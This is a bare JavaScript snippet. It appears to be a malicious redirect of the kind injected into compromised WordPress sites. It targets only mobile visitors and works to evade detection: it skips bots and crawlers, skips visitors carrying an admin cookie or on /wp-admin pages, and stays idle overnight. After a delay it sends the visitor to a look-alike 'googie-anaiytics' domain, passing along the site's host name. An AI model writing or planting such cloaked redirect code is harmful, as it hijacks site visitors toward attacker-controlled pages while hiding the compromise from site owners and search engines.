(function () {
  var ua = navigator.userAgent;
  if (!/Android|iPhone|iPad/i.test(ua)) return;
  if (/bot|crawler|spider|Googlebot/i.test(ua)) return;
  if (document.cookie.indexOf('admin') > -1 || location.pathname.indexOf('/wp-admin') === 0) return;
  var h = new Date().getHours();
  if (h < 7 || h > 23) return;
  setTimeout(function () { location.href = 'https://www.googie-anaiytics.example/click?sid=' + encodeURIComponent(location.host); }, 2500);
})();
